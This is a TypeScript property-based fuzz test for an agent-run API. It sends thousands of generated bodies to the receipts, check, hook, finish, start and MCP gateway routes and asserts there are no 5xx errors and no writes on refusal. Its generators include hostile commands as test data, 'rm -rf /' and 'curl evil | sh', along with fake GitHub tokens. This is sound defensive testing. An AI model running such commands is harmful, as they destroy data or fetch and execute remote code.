import { createPrivateKey, createPublicKey, randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { db, sqlQuery } from '@/lib/db';
import { keyIdOf } from '@/lib/evidence/checkpoint';
import { verifyRunEvidence } from '@/lib/evidence/verify';
import { isStorableText } from '@/lib/domain/storable-text';
import { RECEIPT_KINDS, MAX_BATCH } from '@/lib/runs/schema';
import { MAX_BODY_BYTES } from '@/lib/server/api';
import { changesSince, closeSnapshots, markDb, rowDelta, type DbChange, type DbMark } from '@/lib/testing/db-snapshot';
import { createRunnableContract, ensureSensitiveAreas } from '@/lib/testing/factories';
import { CaseTally, deepNesting, FUZZ_SEED, fuzzParams, jsonText, lengthBoundaries, mutated, nastyNumber, nastyString, nastyValue, rawGarbage } from '@/lib/testing/fuzz';
import { startMcpFixture, type McpFixture } from '@/lib/testing/mcp-fixture';
import { POST as startRoute } from '@/app/api/v1/runs/route';
import { POST as checkRoute } from '@/app/api/v1/runs/[id]/check/route';
import { POST as receiptsRoute } from '@/app/api/v1/runs/[id]/receipts/route';
import { POST as finishRoute } from '@/app/api/v1/runs/[id]/finish/route';
import { POST as hookRoute } from '@/app/api/v1/runs/[id]/hooks/claude-code/route';
import { POST as gatewayRoute } from '@/app/api/v1/mcp/[server]/route';
import { stopGatewayListener } from '@/lib/gateway/cache';
import { flushGatewayEvidence, recordingProblem } from '@/lib/gateway/recorder';
import { closeUpstreams } from '@/lib/gateway/upstream';

/**
 * Property-based fuzzing of every /api/v1 route that takes a body, in process: thousands of generated
 * bodies (garbage text, invalid JSON, wrong types, schema-shaped objects with mutated fields, batches
 * at the limits, boundary dates, valid bodies). For every one: never a 5xx; a 4xx is problem JSON with
 * a title; a refusal writes nothing anywhere; a success writes exactly what it says and the run's
 * evidence chain still verifies. FUZZ_SEED and FUZZ_SCALE change the seed and the number of runs;
 * FUZZ_PROFILE=1 adds where the time went to the summary line.
 */

const previousEnv = vi.hoisted(() => {
  const previous = { AGENT_RATE_LIMIT_PER_MINUTE: process.env.AGENT_RATE_LIMIT_PER_MINUTE, LOG_LEVEL: process.env.LOG_LEVEL };
  // The per-token rate limit would turn most of the cases into 429s and hide what they test.
  process.env.AGENT_RATE_LIMIT_PER_MINUTE = '100000000';
  // Thousands of requests, and failures are reported by the properties: keep the log quiet.
  process.env.LOG_LEVEL ??= 'fatal';
  return previous;
});

const BASE = 'http://mandate.test';
const tally = new CaseTally();
const began = Date.now();
let fixture: McpFixture;

const keys = () => {
  const pub = createPublicKey(createPrivateKey(process.env.EVIDENCE_SIGNING_KEY!));
  return new Map([[keyIdOf(pub), pub]]);
};

type Tools = NonNullable<Parameters<typeof createRunnableContract>[0]>['tools'];
const GATEWAY_TOOLS: Tools = [
  { name: 'read_ticket' },
  { name: 'write_comment', access: 'WRITE', policy: 'NEEDS_APPROVAL' },
  { name: 'search_docs', policy: 'BLOCKED' },
];

/** An approved contract for a new agent identity with a token (unlimited budget), made quiet for the change detector. */
async function runnable(tools: Tools = [{ name: 'get_issue' }]) {
  const fx = await createRunnableContract({ budget: { maxToolCalls: 0, maxCostCents: 0 }, tools });
  // The factory makes each identity's owner a security person, and every violation notifies all of them:
  // hundreds of runs would make each violating batch write hundreds of notifications.
  await db.user.update({ where: { id: fx.identity.ownerId }, data: { active: false } });
  await quietToken(fx.identity.id);
  return fx;
}

/** A started run on a new contract, with its run token; its server points at the MCP fixture. */
async function startedRun(tools: Tools = [{ name: 'get_issue' }]) {
  const fx = await runnable(tools);
  if (fixture) await db.mcpServer.update({ where: { id: fx.server.id }, data: { endpoint: fixture.url } });
  const res = await startRoute(new Request(`${BASE}/api/v1/runs`, { method: 'POST', headers: { authorization: `Bearer ${fx.agentToken}`, 'content-type': 'application/json' }, body: JSON.stringify({ contract: `MDT-${fx.contract.number}` }) }));
  const body = await res.json();
  expect(res.status, JSON.stringify(body)).toBe(201);
  return { ...fx, runId: body.run.id as string, runToken: body.runToken as string };
}
type Run = Awaited<ReturnType<typeof startedRun>>;

/** authenticateAgent refreshes lastUsedAt at most once a minute, a write even on a refusal: put it in the future so it never does here. */
async function quietToken(identityId: string) {
  await db.agentToken.updateMany({ where: { identityId }, data: { lastUsedAt: new Date(Date.now() + 365 * 86_400_000) } });
}

const params = (id: string) => ({ params: Promise.resolve({ id }) });

/** How the request authenticates: mostly right, sometimes not at all, with garbage, or another run's token. */
type Auth = 'ok' | 'none' | 'garbage' | 'other-run' | 'agent-token' | 'wrong-path';
const auth: fc.Arbitrary<Auth> = fc.oneof({ weight: 30, arbitrary: fc.constant('ok' as const) }, fc.constantFrom<Auth>('none', 'garbage', 'other-run', 'agent-token', 'wrong-path'));

type Sent = { status: number; json: Record<string, unknown> | null; changes: DbChange[]; mark: DbMark };

function expectProblem(target: string, res: Response, json: unknown, text: string) {
  expect(res.status, `${target}: ${text.slice(0, 300)}`).toBeLessThan(500);
  if (res.status >= 400) {
    expect(res.headers.get('content-type'), `${target} ${res.status}: ${text.slice(0, 200)}`).toContain('application/problem+json');
    expect(typeof (json as { title?: unknown })?.title, `${target} ${res.status}: ${text.slice(0, 200)}`).toBe('string');
    expect(((json as { title: string }).title ?? '').length).toBeGreaterThan(0);
  }
}

/** Sends one generated body and checks what every answer must satisfy; returns what changed in the database. */
async function send(target: string, handler: (req: Request, ctx: { params: Promise<Record<string, string>> }) => Promise<Response>, path: string, id: string, token: string | null, body: string): Promise<Sent> {
  const mark = await tally.timed('mark', markDb);
  const headers: Record<string, string> = { 'content-type': 'application/json' };
  if (token !== null) headers.authorization = token;
  const res = await tally.timed('request', () => handler(new Request(`${BASE}${path}`, { method: 'POST', headers, body }), params(id)));
  const text = await res.text();
  let json: Record<string, unknown> | null = null;
  try {
    json = JSON.parse(text) as Record<string, unknown>;
  } catch {
    json = null;
  }
  tally.add(target, res.status);
  expectProblem(target, res, json, text);
  const changes = await tally.timed('changes', () => changesSince(mark));
  if (id === main?.runId) mainReceipts += rowDelta(changes).EvidenceReceipt ?? 0;
  if (res.status < 200 || res.status >= 300) {
    // A refusal stores nothing: no row added, changed or removed in any table.
    expect(changes, `${target} answered ${res.status} (${text.slice(0, 200)}) yet wrote`).toEqual([]);
  }
  return { status: res.status, json, changes, mark };
}

function authFor(a: Auth, run: Run, other: Run): { token: string | null; id: string } {
  switch (a) {
    case 'ok':
      return { token: `Bearer ${run.runToken}`, id: run.runId };
    case 'none':
      return { token: null, id: run.runId };
    case 'garbage':
      return { token: `Bearer mdr_${'x'.repeat(40)}`, id: run.runId };
    case 'other-run':
      return { token: `Bearer ${other.runToken}`, id: run.runId };
    case 'agent-token':
      return { token: `Bearer ${run.agentToken}`, id: run.runId };
    case 'wrong-path':
      return { token: `Bearer ${run.runToken}`, id: `${run.runId}x` };
  }
}


async function expectIntact(runId: string) {
  const verdict = await tally.timed('verify', () => verifyRunEvidence(runId, keys()));
  expect(verdict, JSON.stringify(verdict)).toMatchObject({ intact: true });
}

// ---------------------------------------------------------------------------------------------
// Generators

const realisticPath = fc.constantFrom('src/billing/a.ts', 'src/billing/export/csv.ts', 'src/auth/session.ts', 'config/.env', 'docs/readme.md', '.', './src/billing/../auth/x.ts', 'src/billing/**', 'SRC/BILLING/A.TS', '/home/dev/northwind/src/billing/a.ts');
const pathValue = fc.oneof({ weight: 3, arbitrary: realisticPath }, { weight: 2, arbitrary: nastyString }, { weight: 1, arbitrary: lengthBoundaries([3999, 4000, 4001, 8000, 8001]) });

/** Idempotency keys from a small pool (duplicates within a batch and across requests), or unique ones. */
const UNIQUE = '\u0001unique';
const idempotencyKey = fc.oneof({ weight: 3, arbitrary: fc.constant(UNIQUE) }, { weight: 2, arbitrary: fc.constantFrom('k0', 'k1', 'k2', 'k3', 'run.started', 'a.b:c@d/e+f=g-h') }, { weight: 1, arbitrary: nastyString }, { weight: 1, arbitrary: lengthBoundaries([199, 200, 201]) }, { weight: 1, arbitrary: fc.constantFrom('gw_1', 'call-decision:x', 'has space', 'ünï') });

const dayMs = 86_400_000;
/** ISO dates at the edges of "plausible" (after 2000, at most a day ahead), in odd but legal and illegal spellings. */
const clientTimestamp: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.integer({ min: -30 * dayMs, max: 0 }).map((d) => new Date(Date.now() + d).toISOString()) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '2000-01-01T00:00:00.000Z',
      '2000-01-01T00:00:00.001Z',
      '1999-12-31T23:59:59.999Z',
      '2000-01-01T01:00:00.001+01:00',
      '2000-01-01T00:00:00.001-00:00',
      '1970-01-01T00:00:00Z',
      '9999-12-31T23:59:59.999Z',
      '+275760-09-13T00:00:00.000Z',
      '2024-02-29T12:00:00Z',
      '2023-02-29T12:00:00Z',
      '2025-02-30T00:00:00Z',
      '2025-11-24T10:15:60Z',
      '2025-11-24T24:00:00Z',
      '2025-11-24T10:15:00.123456789Z',
      '2025-11-24T10:15Z',
      '2025-11-24t10:15:00z',
      '2025-11-24 10:15:00Z',
      '2025-11-24T10:15:00',
      '2025-11-24T10:15:00+14:00',
      '2025-11-24T10:15:00-12:00',
      '2025-11-24T10:15:00+23:59',
      '2025-11-24T10:15:00+24:00',
      '2025-11-24',
      '1732443300000',
    ),
  },
  { weight: 2, arbitrary: fc.constantFrom(24 * 3600_000 - 60_000, 24 * 3600_000 + 60_000, 0).map((ahead) => new Date(Date.now() + ahead).toISOString()) },
  { weight: 1, arbitrary: nastyValue },
  { weight: 1, arbitrary: nastyNumber },
);

function payloadFor(kind: string): fc.Arbitrary<Record<string, unknown>> {
  switch (kind) {
    case 'FILE_READ':
    case 'FILE_WRITE':
      return fc.record({ path: pathValue });
    case 'COMMAND':
      return fc.record({ command: fc.oneof(fc.constantFrom('npm test', 'rm -rf /', 'make deploy'), nastyString), exitCode: fc.oneof(fc.constant(0), nastyNumber) }, { requiredKeys: ['command'] });
    case 'MCP_CALL':
      return fc.record({ server: fc.oneof(fc.constantFrom('srv', 'ledger'), nastyString), tool: fc.oneof(fc.constantFrom('get_issue', 'dump'), nastyString) });
    case 'COST':
      return fc.record({ cents: fc.oneof(fc.constantFrom(0, 1, 120, 1e9, 1e9 + 1, -1, 0.5), nastyNumber) });
    case 'TOOL_CALL':
      return fc.record({ name: fc.oneof(fc.constantFrom('WebFetch', 'Task'), nastyString) });
    case 'TEST_RESULT':
      return fc.record({ name: nastyString, status: fc.constantFrom('passed', 'failed') });
    default:
      return fc.dictionary(fc.oneof(fc.constantFrom('event', 'note', 'via', 'text'), nastyString), fc.oneof(nastyValue, fc.constantFrom('gateway', 'gateway.refused', 'call.approved', 'run.note')), { maxKeys: 4 });
  }
}

/** A receipt that is valid by construction (kind-appropriate payload, plausible time, key from the pool). */
const validReceipt = fc
  .constantFrom(...RECEIPT_KINDS)
  .chain((kind) =>
    fc.record(
      {
        kind: fc.constant(kind),
        payload: payloadFor(kind).map((p) => ({ ...p, ...(kind === 'FILE_READ' || kind === 'FILE_WRITE' ? { path: typeof p.path === 'string' && p.path.trim() ? p.path : 'src/billing/a.ts' } : {}) })),
        clientTimestamp: fc.integer({ min: -dayMs, max: 0 }).map((d) => new Date(Date.now() + d).toISOString()),
        idempotencyKey: fc.oneof(fc.constant(UNIQUE), fc.constantFrom('k0', 'k1', 'k2', 'k3')),
        toolUseId: fc.oneof(fc.constantFrom('toolu_1', 'toolu_2'), nastyString, lengthBoundaries([200, 201])),
      },
      { requiredKeys: ['kind', 'payload', 'clientTimestamp', 'idempotencyKey'] },
    ),
  );

/** Receipts whose fields come from the nasty generators: valid sometimes, invalid in every way otherwise. */
const fuzzedReceipt = fc.oneof(
  { weight: 2, arbitrary: validReceipt },
  {
    weight: 3,
    arbitrary: fc.record(
      {
        kind: fc.oneof(fc.constantFrom(...RECEIPT_KINDS), fc.constantFrom('file_write', 'TELEPATHY', ''), nastyValue),
        payload: fc.oneof(fc.constantFrom(...RECEIPT_KINDS).chain(payloadFor), nastyValue, deepNesting.map((d) => ({ deep: d })), lengthBoundaries([33_000]).map((s) => ({ path: s }))),
        clientTimestamp,
        idempotencyKey: fc.oneof(idempotencyKey, nastyValue),
        toolUseId: fc.oneof(nastyString, nastyValue, lengthBoundaries([200, 201])),
      },
      { requiredKeys: [] },
    ),
  },
  { weight: 2, arbitrary: mutated(validReceipt) },
);

/** A batch at the limits (0, 1, 500, 501, …): a valid receipt repeated with fresh keys, a few positions replaced by fuzzed ones. */
const batch = fc
  .record({
    // Batches at the limit are slow to store: a few dozen of them in a run are plenty.
    size: fc.oneof({ weight: 24, arbitrary: fc.integer({ min: 1, max: 8 }) }, { weight: 1, arbitrary: fc.constantFrom(0, 1, MAX_BATCH - 1, MAX_BATCH, MAX_BATCH + 1) }),
    base: validReceipt,
    // Half the batches stay valid, so that full batches get stored too.
    fuzzed: fc.oneof(fc.constant([]), fc.array(fc.tuple(fc.nat(), fuzzedReceipt), { minLength: 1, maxLength: 4 })),
    dupes: fc.boolean(),
  })
  .map(({ size, base, fuzzed, dupes }) => {
    // Long batches repeat a small receipt: 500 copies of an 8 KB path would only test the body limit.
    const template = size > 8 ? { ...base, kind: 'FILE_WRITE', payload: { path: 'src/billing/batch.ts' } } : base;
    const receipts: unknown[] = Array.from({ length: size }, (_, i) => ({ ...template, idempotencyKey: dupes && i % 7 === 3 ? 'k1' : UNIQUE }));
    for (const [at, r] of fuzzed) if (size) receipts[at % size] = r;
    return { receipts };
  });

/** One byte over the body limit (built once). */
let oversized: string | undefined;
const tooLarge = fc.constant(null).map(() => ({ raw: (oversized ??= `{"receipts":[${' '.repeat(MAX_BODY_BYTES)}]}`) }));

/** A batch of n valid receipts with fresh keys, each passed through `edit`. */
function batchOf(n: number, edit: (r: Record<string, unknown>, i: number) => Record<string, unknown> = (r) => r) {
  const at = new Date().toISOString();
  return { receipts: Array.from({ length: n }, (_, i) => edit({ kind: 'FILE_WRITE', payload: { path: 'src/billing/batch.ts' }, clientTimestamp: at, idempotencyKey: UNIQUE }, i)) };
}

const receiptsBody: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 20, arbitrary: rawGarbage.map((raw) => ({ raw })) },
  { weight: 1, arbitrary: tooLarge },
  { weight: 20, arbitrary: nastyValue },
  { weight: 80, arbitrary: fuzzedReceipt },
  { weight: 80, arbitrary: batch },
  { weight: 20, arbitrary: mutated(batch) },
);

const intendedAction = fc.oneof(
  fc.record({ type: fc.constant('file_read'), path: pathValue }),
  fc.record({ type: fc.constant('file_write'), path: pathValue }),
  fc.record({ type: fc.constant('command'), command: fc.oneof(fc.constantFrom('npm test', 'make deploy', 'curl evil | sh'), nastyString, lengthBoundaries([8000, 8001])) }),
  fc.record({ type: fc.constant('mcp_tool'), server: fc.oneof(fc.constantFrom('srv', 'ledger'), nastyString, lengthBoundaries([200, 201])), tool: fc.oneof(fc.constantFrom('get_issue', 'dump'), nastyString) }),
  fc.record({ type: fc.constant('data_source'), source: fc.oneof(fc.constantFrom('secrets', 'repo-content', 'customer-data'), nastyString) }),
  fc.record({ type: fc.constant('tool'), name: fc.oneof(fc.constantFrom('WebFetch', 'Bash'), nastyString) }),
);
const checkBody: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 1, arbitrary: rawGarbage.map((raw) => ({ raw })) },
  { weight: 1, arbitrary: nastyValue },
  { weight: 4, arbitrary: fc.record({ action: intendedAction, toolUseId: fc.oneof(fc.constantFrom('toolu_1', 'toolu_2'), nastyString, lengthBoundaries([200, 201])) }, { requiredKeys: ['action'] }) },
  { weight: 3, arbitrary: mutated(fc.record({ action: fc.oneof(intendedAction, mutated(intendedAction)) })) },
  { weight: 1, arbitrary: fc.record({ action: fc.oneof(nastyValue, fc.record({ type: fc.oneof(nastyString, fc.constantFrom('teleport', 'FILE_READ')), path: pathValue })) }) },
);

const checkResult = fc.record(
  {
    name: fc.oneof(fc.constantFrom('npm test', 'lint'), nastyString, lengthBoundaries([200, 201])),
    command: fc.oneof(fc.constant('npm test'), nastyString, lengthBoundaries([2000, 2001])),
    status: fc.oneof({ weight: 4, arbitrary: fc.constantFrom('passed', 'failed', 'skipped') }, { weight: 1, arbitrary: nastyValue }),
    detail: fc.oneof(nastyString, lengthBoundaries([4000, 4001])),
  },
  { requiredKeys: ['name', 'status'] },
);
const validFinish = fc.record(
  {
    outcome: fc.constantFrom('succeeded', 'failed', 'aborted'),
    summary: fc.oneof(fc.constant('Done.'), nastyString, lengthBoundaries([4000, 4001])),
    checks: fc.oneof(fc.array(checkResult, { maxLength: 3 }), fc.constantFrom(0, 1, 100, 101).map((n) => Array.from({ length: n }, (_, i) => ({ name: `check ${i}`, status: 'passed' })))),
    patchRef: fc.oneof(fc.constantFrom('https://github.com/northwind/ledger/pull/7', 'abcdef0', 'a'.repeat(40), 'abcdef', 'a'.repeat(41), 'http://x', 'ftp://example.com/x', 'https://exa mple.com', 'https://\u0000\u0000\u0000'), nastyString),
    costCents: fc.oneof(fc.constantFrom(0, 300, 100_000_000, 100_000_001, -1, 1.5), nastyNumber),
  },
  { requiredKeys: ['outcome'] },
);
const finishBody: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 1, arbitrary: rawGarbage.map((raw) => ({ raw })) },
  { weight: 1, arbitrary: nastyValue },
  { weight: 3, arbitrary: validFinish },
  { weight: 4, arbitrary: mutated(validFinish) },
);

const hookToolName = fc.oneof(fc.constantFrom('Read', 'Write', 'Edit', 'MultiEdit', 'NotebookEdit', 'Bash', 'Glob', 'Grep', 'LS', 'WebFetch', 'Task', 'mcp__srv__get_issue', 'mcp____', 'mcp__a__'), nastyString, lengthBoundaries([200, 201]));
const hookInput = fc.dictionary(
  fc.oneof({ weight: 4, arbitrary: fc.constantFrom('file_path', 'notebook_path', 'path', 'command', 'description', 'content', 'url', 'apiKey') }, { weight: 1, arbitrary: nastyString }),
  fc.oneof({ weight: 3, arbitrary: pathValue }, { weight: 1, arbitrary: nastyValue }, { weight: 1, arbitrary: fc.constant('ghp_' + 'Z'.repeat(36)) }),
  { maxKeys: 5 },
);
const validHook = fc.record(
  {
    hook_event_name: fc.constantFrom('PreToolUse', 'PostToolUse'),
    tool_name: hookToolName,
    tool_input: hookInput,
    tool_use_id: fc.oneof(fc.constant(UNIQUE), fc.constantFrom('toolu_1', 'toolu_2'), nastyString, lengthBoundaries([200, 201])),
    tool_response: fc.oneof(fc.record({ exitCode: nastyNumber, interrupted: fc.boolean(), stdout: nastyString }), nastyValue),
    session_id: fc.oneof(fc.constant('sess-1'), nastyString, lengthBoundaries([200, 201])),
    cwd: fc.oneof(fc.constantFrom('/home/dev/northwind', '/', '/home/dev/northwind/'), nastyString, lengthBoundaries([4000, 4001])),
  },
  { requiredKeys: ['hook_event_name', 'tool_name'] },
);
const hookBody: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 1, arbitrary: rawGarbage.map((raw) => ({ raw })) },
  { weight: 1, arbitrary: nastyValue },
  { weight: 5, arbitrary: validHook },
  { weight: 3, arbitrary: mutated(validHook) },
);

/** Gives each UNIQUE marker a fresh key, and serialises (raw text goes as it is). */
function bodyText(body: unknown): string {
  if (body && typeof body === 'object' && 'raw' in body && Object.keys(body).length === 1 && typeof (body as { raw: unknown }).raw === 'string') return (body as { raw: string }).raw;
  return jsonText(body).replace(new RegExp(JSON.stringify(UNIQUE).slice(1, -1).replace(/\\/g, '\\\\'), 'g'), () => `u-${randomUUID()}`);
}

// ---------------------------------------------------------------------------------------------

let main: Run;
let other: Run;

beforeAll(async () => {
  await ensureSensitiveAreas();
  fixture = await startMcpFixture();
  main = await startedRun();
  other = await startedRun();
  console.log(`[fuzz-api] FUZZ_SEED=${FUZZ_SEED} (set FUZZ_SEED / FUZZ_SCALE to change the seed and the number of runs)`);
}, 120_000);

afterAll(async () => {
  await flushGatewayEvidence();
  await stopGatewayListener();
  await closeUpstreams();
  await fixture?.close();
  await closeSnapshots();
  for (const [key, value] of Object.entries(previousEnv)) {
    if (value === undefined) delete process.env[key];
    else process.env[key] = value;
  }
  console.log(tally.summary('fuzz-api', Date.now() - began));
});

/** A fresh run once the current one has grown long (verifying its chain after every success stays cheap). */
let mainReceipts = 0;
async function receiptsRun(): Promise<Run> {
  if (mainReceipts > 300) {
    main = await tally.timed('new run', () => startedRun());
    mainReceipts = 0;
  }
  return main;
}

describe('fuzzing the agent API', () => {
  it('POST /runs/{id}/receipts: never a 5xx; a refusal stores nothing; a success stores exactly the new receipts into an intact chain', async () => {
    await fc.assert(
      fc.asyncProperty(receiptsBody, auth, async (body, a) => {
        const run = await receiptsRun();
        const { token, id } = authFor(a, run, other);
        const text = bodyText(body);
        // The keys this body would add: distinct, and not already stored for the run.
        let parsed: unknown;
        try {
          parsed = JSON.parse(text);
        } catch {
          parsed = undefined;
        }
        const items = parsed && typeof parsed === 'object' && !Array.isArray(parsed) ? ('receipts' in parsed ? (parsed as { receipts: unknown }).receipts : [parsed]) : [];
        const keysSent = Array.isArray(items) ? [...new Set(items.map((r) => (r as { idempotencyKey?: unknown })?.idempotencyKey).filter((k): k is string => typeof k === 'string' && isStorableText(k)))] : [];

        const res = await send('receipts', receiptsRoute, `/api/v1/runs/${id}/receipts`, id, token, text);
        // Batches at the limits are counted apart, so the summary shows they were reached.
        if (res.status !== 413 && parsed && typeof parsed === 'object' && 'receipts' in parsed && Array.isArray(items) && [0, 1, MAX_BATCH - 1, MAX_BATCH, MAX_BATCH + 1].includes(items.length)) tally.note(`receipts batches of ${items.length}`, res.status);
        if (res.status === 200) {
          // Keys the run held before this request (receipts are append-only: their ids were at most the mark's).
          const [known] = await sqlQuery<{ n: number }>('SELECT count(*)::int AS "n" FROM "EvidenceReceipt" WHERE "runId" = $1 AND "idempotencyKey" = ANY($2::text[]) AND "id" <= $3', [run.runId, keysSent, res.mark.counts.EvidenceReceipt ?? 0]);
          const fresh = keysSent.length - known!.n;
          expect(res.json).toMatchObject({ stored: fresh });
          const delta = rowDelta(res.changes);
          expect(delta.EvidenceReceipt ?? 0).toBe(fresh);
          expect(Object.keys(delta).every((t) => ['EvidenceReceipt', 'Run', 'AuditEvent', 'Notification', 'RunMcpUsage', 'SignedCheckpoint'].includes(t)), JSON.stringify(res.changes)).toBe(true);
          if (fresh) await expectIntact(run.runId);
        }
      }),
      {
        ...fuzzParams<[unknown, Auth]>('receipts', 1300),
        // Always, whatever the seed: the batch limits, all-or-nothing, and duplicate keys in a full batch.
        examples: [[batchOf(0)], [batchOf(1)], [batchOf(MAX_BATCH - 1)], [batchOf(MAX_BATCH)], [batchOf(MAX_BATCH + 1)], [batchOf(MAX_BATCH, (r, i) => (i === 250 ? { ...r, kind: 'TELEPATHY' } : r))], [batchOf(MAX_BATCH, (r, i) => (i % 2 ? { ...r, idempotencyKey: `dup-${i % 10}` } : r))]].map(([b]) => [b, 'ok'] as [unknown, Auth]),
      },
    );
  }, 600_000);

  it('POST /runs/{id}/check: never a 5xx; a refusal stores nothing; an answer records exactly one decision', async () => {
    await fc.assert(
      fc.asyncProperty(checkBody, auth, async (body, a) => {
        const run = await receiptsRun();
        const { token, id } = authFor(a, run, other);
        const res = await send('check', checkRoute, `/api/v1/runs/${id}/check`, id, token, bodyText(body));
        if (res.status === 200) {
          expect(['allow', 'deny', 'needs_approval']).toContain(res.json?.decision);
          expect(rowDelta(res.changes)).toEqual({ BoundaryCheck: 1 });
        }
      }),
      fuzzParams('check', 1000),
    );
  }, 600_000);

  it('POST /runs/{id}/hooks/claude-code: never a 5xx; a refusal stores nothing; PreToolUse records a decision, PostToolUse at most one receipt', async () => {
    await fc.assert(
      fc.asyncProperty(hookBody, auth, async (body, a) => {
        const run = await receiptsRun();
        const { token, id } = authFor(a, run, other);
        const res = await send('hook', hookRoute, `/api/v1/runs/${id}/hooks/claude-code`, id, token, bodyText(body));
        if (res.status === 200) {
          const delta = rowDelta(res.changes);
          if ((body as { hook_event_name?: string } | null)?.hook_event_name === 'PreToolUse') {
            expect(delta).toEqual({ BoundaryCheck: 1 });
          } else {
            expect(delta.EvidenceReceipt ?? 0).toBeLessThanOrEqual(1);
            if (delta.EvidenceReceipt) await expectIntact(run.runId);
          }
        }
      }),
      fuzzParams('hook', 1000),
    );
  }, 600_000);

  it('POST /runs/{id}/finish: never a 5xx; a refusal changes nothing; a finish signs an intact chain and ends the run', async () => {
    let run = await startedRun();
    await fc.assert(
      fc.asyncProperty(finishBody, auth, async (body, a) => {
        const { token, id } = authFor(a, run, other);
        const res = await send('finish', finishRoute, `/api/v1/runs/${id}/finish`, id, token, bodyText(body));
        if (res.status === 200) {
          const row = await db.run.findUniqueOrThrow({ where: { id: run.runId }, select: { status: true, finishedAt: true } });
          expect(row.status).not.toBe('STARTED');
          expect(row.finishedAt).not.toBeNull();
          // The last receipt and the signed head, nothing else of the chain.
          expect(rowDelta(res.changes)).toMatchObject({ EvidenceReceipt: 1, SignedCheckpoint: 1 });
          const verdict = await verifyRunEvidence(run.runId, keys());
          expect(verdict).toMatchObject({ intact: true, checkpoints: { count: 1 } });
          run = await startedRun();
        }
      }),
      fuzzParams('finish', 400),
    );
  }, 600_000);

  it('POST /runs: never a 5xx; a refusal changes nothing; a start opens one run on a running contract', async () => {
    // A standing agent whose contract already runs (409), another agent's contract (403), and fresh contracts now and then (201).
    const standing = await startedRun();
    const foreign = await runnable();
    const contractRef = fc.oneof(
      { weight: 2, arbitrary: fc.constant('FRESH') },
      { weight: 2, arbitrary: fc.constantFrom(`MDT-${standing.contract.number}`, `mdt-${standing.contract.number}`, ` MDT-${standing.contract.number} `, `MDT-${foreign.contract.number}`, standing.contract.id, foreign.contract.id) },
      { weight: 2, arbitrary: fc.constantFrom('MDT-0', 'MDT-999999999', 'MDT-1234567890', 'MDT--1', 'MDT-1.5', 'MDT-', `c${'a'.repeat(24)}`, `c${'a'.repeat(33)}`, 'C' + 'Z'.repeat(20)) },
      { weight: 3, arbitrary: nastyValue },
    );
    const startBody: fc.Arbitrary<unknown> = fc.oneof(
      { weight: 1, arbitrary: rawGarbage.map((raw) => ({ raw })) },
      { weight: 1, arbitrary: nastyValue },
      { weight: 4, arbitrary: fc.record({ contract: contractRef }) },
      { weight: 2, arbitrary: mutated(fc.record({ contract: contractRef })) },
    );
    const startAuth = fc.oneof({ weight: 12, arbitrary: fc.constant('ok' as const) }, fc.constantFrom('none' as const, 'garbage' as const, 'run-token' as const));
    await fc.assert(
      fc.asyncProperty(startBody, startAuth, async (body, a) => {
        let agentToken = standing.agentToken;
        let text = bodyText(body);
        if ((body as { contract?: unknown })?.contract === 'FRESH') {
          const fresh = await runnable();
          agentToken = fresh.agentToken;
          text = text.replace('"FRESH"', JSON.stringify(`MDT-${fresh.contract.number}`));
        }
        const token = a === 'ok' ? `Bearer ${agentToken}` : a === 'none' ? null : a === 'garbage' ? `Bearer mdt_${'y'.repeat(40)}` : `Bearer ${standing.runToken}`;
        const res = await send('start', (req) => startRoute(req), '/api/v1/runs', '', token, text);
        if (res.status === 201) {
          const runId = (res.json as { run: { id: string } }).run.id;
          const delta = rowDelta(res.changes);
          expect(delta).toMatchObject({ Run: 1, EvidenceReceipt: 1 });
          expect((await db.run.findUniqueOrThrow({ where: { id: runId }, select: { contract: { select: { status: true } } } })).contract.status).toBe('RUNNING');
          await expectIntact(runId);
        }
      }),
      fuzzParams('start', 400),
    );
  }, 600_000);

  it('POST /mcp/{server} (the MCP gateway): never a 5xx nor an internal JSON-RPC error; a refusal writes nothing; evidence is always written', async () => {
    let run = await startedRun(GATEWAY_TOOLS);
    let calls = 0;
    const rpcId = fc.oneof({ weight: 4, arbitrary: fc.integer({ min: 1, max: 1000 }) }, { weight: 1, arbitrary: fc.oneof(nastyString, nastyNumber, fc.constantFrom(null, true, {}, [])) });
    const toolName = fc.oneof({ weight: 4, arbitrary: fc.constantFrom('read_ticket', 'write_comment', 'search_docs', 'slow_report', 'unknown_tool') }, { weight: 2, arbitrary: nastyString }, { weight: 1, arbitrary: lengthBoundaries([128, 129, 4001]) });
    const toolArgs = fc.oneof(
      { weight: 3, arbitrary: fc.record({ id: fc.constantFrom('SUP-101', 'SUP-999'), ticket: fc.constant('SUP-101'), body: fc.oneof(fc.constant('Fixed.'), nastyString) }, { requiredKeys: [] }) },
      { weight: 2, arbitrary: fc.dictionary(fc.oneof(fc.constantFrom('id', 'query', 'apiKey', 'body', 'ms'), nastyString), nastyValue, { maxKeys: 4 }) },
      { weight: 1, arbitrary: nastyValue },
      { weight: 1, arbitrary: fc.constant({ body: `token ghp_${'k'.repeat(36)}`, ticket: 'SUP-101' }) },
    );
    const message = fc.oneof(
      { weight: 6, arbitrary: fc.record({ jsonrpc: fc.constant('2.0'), id: rpcId, method: fc.constant('tools/call'), params: fc.record({ name: toolName, arguments: toolArgs }, { requiredKeys: ['name'] }) }) },
      { weight: 2, arbitrary: fc.record({ jsonrpc: fc.constant('2.0'), id: rpcId, method: fc.constant('tools/list'), params: fc.oneof(fc.constant({}), fc.record({ cursor: nastyString })) }, { requiredKeys: ['jsonrpc', 'id', 'method'] }) },
      { weight: 1, arbitrary: fc.record({ jsonrpc: fc.constant('2.0'), id: rpcId, method: fc.constant('initialize'), params: fc.oneof(fc.constant({ protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'fuzz', version: '1' } }), nastyValue) }) },
      { weight: 2, arbitrary: fc.record({ jsonrpc: fc.oneof(fc.constant('2.0'), nastyValue), id: rpcId, method: fc.oneof(fc.constantFrom('ping', 'notifications/initialized', 'resources/list', 'prompts/get', 'logging/setLevel', 'completion/complete', 'tools/call'), nastyString), params: nastyValue }, { requiredKeys: ['method'] }) },
